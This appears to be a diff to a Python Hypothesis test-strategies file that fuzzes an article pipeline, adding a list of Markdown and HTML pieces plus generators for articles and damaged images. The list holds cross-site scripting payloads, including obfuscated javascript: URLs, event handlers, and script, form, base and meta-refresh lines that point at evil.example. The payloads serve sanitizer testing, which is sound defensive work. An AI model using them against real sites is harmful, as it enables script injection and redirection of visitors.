@@ -13,7 +13,6 @@ import re
 
 import yaml
 from hypothesis import strategies as st
-
 from samples import LIBRARY, PROGRAM, STYLES
 
 CALLS = """\
@@ -371,3 +370,49 @@ def valid_programme(draw) -> str:
         target = _get(data, draw(st.sampled_from(lists)))
         target.extend(copy.deepcopy(target[-1:]) * draw(st.integers(1, 4)))
     return dump(data)
+
+
+# ---------------------------------------------------------------- article bodies: HTML, links, footnotes, code
+
+# Pieces an author (or a hostile guest author) might write; the fuzzer mixes them with odd text.
+HTML_PIECES = [
+    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
+    '<img src="x.png" alt="ok">', "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe src="https://www.youtube-nocookie.com/embed/abcDEF12345"></iframe>', '<iframe src="https://evil.example/">',
+    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "![p](data:image/svg+xml,<svg onload=alert(1)>)",
+    '<a href="jav&#x61;script:alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>',
+    "<a href='vbscript:x'>v</a>", "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>",
+    "<math><a xlink:href=javascript:alert(1)>m</a></math>", "<form action=https://evil.example/><input></form>",
+    "<details open ontoggle=alert(1)>d</details>", '<div markdown>\n**bold**\n</div>', "<abbr title=x>AB</abbr>",
+    "`<script>alert(1)</script>`", "```\n<script>alert(1)</script>\n```", "~~~~\n```\n<script>x</script>\n~~~~",
+    "    <script>indented</script>", "Claim[^1].\n\n[^1]: <img src=x onerror=alert(1)>", "[^n]: [x](javascript:y)",
+    "[ref]\n\n[ref]: javascript:alert(1)", "<https://example.org/>", "<javascript:alert(1)>", "<!-- <script> -->",
+    "<style>body{display:none}</style>", "<object data=x.swf></object>", "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "[ok](https://example.org/ 'title')",
+]
+
+
+@st.composite
+def article(draw) -> str:
+    """An article's Markdown: valid front matter, a body of HTML pieces and odd text."""
+    pieces = draw(st.lists(st.one_of(st.sampled_from(HTML_PIECES), odd_text,
+                                     st.tuples(st.sampled_from(HTML_PIECES), st.sampled_from(HTML_PIECES))
+                                     .map(" ".join)), min_size=1, max_size=6))
+    return f"---\n{dump(FRONT)}---\n\n# Heading\n\n" + "\n\n".join(pieces) + "\n"
+
+
+@st.composite
+def picture(draw) -> bytes:
+    """A picture file: a real one, a damaged one, or anything at all."""
+    import io
+
+    from PIL import Image
+
+    kind = draw(st.sampled_from(["PNG", "JPEG", "WEBP", "GIF", "BMP"]))
+    size = (draw(st.integers(1, 64)), draw(st.integers(1, 64)))
+    buffer = io.BytesIO()
+    Image.new(draw(st.sampled_from(["RGB", "RGBA", "L", "1", "P"])) if kind != "JPEG" else "RGB", size).save(
+        buffer, format=kind)
+    data = buffer.getvalue()
+    cut = draw(st.one_of(st.none(), st.integers(0, max(0, len(data) - 1))))
+    return draw(st.one_of(st.just(data if cut is None else data[:cut]), st.binary(max_size=200)))
